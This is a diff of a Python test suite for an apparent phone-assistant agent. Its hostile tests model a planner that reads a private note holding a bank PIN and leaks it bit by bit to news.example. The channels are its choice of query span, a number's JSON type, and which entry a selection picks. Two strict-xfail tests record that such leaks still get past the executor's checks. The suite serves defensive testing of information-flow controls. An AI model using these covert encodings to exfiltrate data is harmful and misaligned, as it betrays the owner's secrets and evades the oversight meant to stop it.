@@ -10,11 +10,16 @@ card's number passes for the user's words (sent, no confirmation asked)."""
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
-from hearth.companion.intent import named
+from hearth.companion.intent import Intent, named
+from hearth.companion.tools.registry import Tier, Tool
 
+from .phone_kit import declared, make_plan, web_lookup_tool
 from .test_attack_review_intent import OWNER_NAMES, _sent_to_card
+from .test_precise_labels import phone, rounds
 
 pytestmark = pytest.mark.hostile
 
@@ -151,3 +156,100 @@ def test_a_benign_request_still_addresses_its_recipient() -> None:
     assert named("Read the news, then text Alice that I'm late.", [*OWNER_NAMES, "Acme"]) == {
         "Alice Example"
     }
+
+
+# -- the one covered open-world call after a private read: what it may carry ---------------
+
+PIN = 4921
+PIN_NOTE = '[{"id": "n1", "title": "Bank", "text": "PIN 4921"}]'
+READ_NOTE = make_plan(("s1", "notes_search", {"query": "Bank"}, []))
+REQUEST = "Look up the weather and the news on news.example"
+
+
+def _pin_phone(tmp_path):  # type: ignore[no-untyped-def]
+    """A phone whose bank note holds the PIN, with an app's open-world lookup."""
+    executor, asked, data = phone(tmp_path)
+    (data.root / "notes.json").write_text(PIN_NOTE)
+    looked_up: list[dict[str, object]] = []
+    executor.registry.add(web_lookup_tool(looked_up))  # type: ignore[arg-type]
+    return executor, asked, looked_up
+
+
+def _spans(request: str) -> list[str]:
+    """Every span of `request` of whole words that the intent takes as the user's words."""
+    ws = request.split(" ")
+    out = [" ".join(ws[i:j]) for i in range(len(ws)) for j in range(i + 1, len(ws) + 1)]
+    return [s for s in out if Intent(request).says_as_typed(s)]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="the covered call may be any span of the request as typed, and the planner "
+    "picks which: REQUEST has 43 such spans, 5.4 bits of the PIN per conversation (and a "
+    "new conversation reads the note again: 3 of them spell a 4-digit PIN). Which "
+    "open-world tool carries it is a further choice. Fix: after a private read the covered "
+    "call's values must have been written before the read (a plan's literals judged when "
+    "the first private result was shown), or be the whole request, not a span the "
+    "planner picks.",
+)
+def test_the_covered_calls_choice_of_span_cannot_spell_the_pin(tmp_path) -> None:
+    executor, _, looked_up = _pin_phone(tmp_path)
+    spans = _spans(REQUEST)
+    assert len(spans) > 32  # 5 bits and more in one call
+    query = spans[PIN % len(spans)]
+    leak = make_plan(("s1", "web_lookup", {"site": "news.example", "query": query}, []))
+    rounds(executor, REQUEST, READ_NOTE, leak)
+    assert all(spans.index(str(q["query"])) != PIN % len(spans) for q in looked_up)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a number counts as the user's words by its decimal form, whatever its JSON "
+    "type: 5 and 5.0 both say '5', and the tool (and the web) sees which one: a bit the "
+    "planner chose. Fix: after a private read a number must have the JSON type its span "
+    "has (an integer for '5'), or the executor hands the tool the span's own value.",
+)
+def test_the_covered_calls_number_type_cannot_spell_a_bit(tmp_path) -> None:
+    executor, _, data = phone(tmp_path)
+    (data.root / "notes.json").write_text(PIN_NOTE)
+    looked_up: list[object] = []
+
+    async def top_news(site: str, count: float) -> str:
+        """Look up the top news on a web site."""
+        looked_up.append(count)
+        return "Sunny."
+
+    executor.registry.add(declared(top_news, Tier.OPEN_WORLD_READ, control_args=["site"]))
+    bit = PIN & 1  # 1: a float
+    count: float = 5.0 if bit else 5
+    leak = make_plan(("s1", "top_news", {"site": "news.example", "count": count}, []))
+    rounds(executor, "Look up the 5 top news on news.example", READ_NOTE, leak)
+    assert all(isinstance(c, float) != bool(bit) for c in looked_up)
+
+
+def _catalog(keys: frozenset[str]) -> Tool:
+    """An app's public catalog (owner's data, not private, not untrusted) whose entries'
+    `page` is a key field: two entries of kind 'news'."""
+
+    async def catalog() -> list[dict[str, str]]:
+        """List the catalog."""
+        return [{"kind": "news", "page": "one"}, {"kind": "news", "page": "four"}]
+
+    tool = declared(catalog, Tier.READ_ONLY, untrusted_results=False)
+    return replace(tool, key_fields=keys)
+
+
+def test_a_selections_pick_cannot_spell_a_bit(tmp_path) -> None:
+    """After a private read, a selection from the owner's clean listing by the user's
+    words that matches two entries: which one 'pick' takes is the planner's bit; the
+    lookup it feeds is asked and --yes says no."""
+    executor, _, looked_up = _pin_phone(tmp_path)
+    executor.registry.add(_catalog(frozenset(["page"])))
+    pick = "last" if PIN & 1 else "first"
+    page = {"$ref": "s1.result", "where": {"kind": "news"}, "select": "page", "pick": pick}
+    leak = make_plan(
+        ("s1", "catalog", {}, []),
+        ("s2", "web_lookup", {"site": "news.example", "query": page}, ["s1"]),
+    )
+    obs = rounds(executor, REQUEST, READ_NOTE, leak)
+    assert obs[-1].status == "refused" and looked_up == []
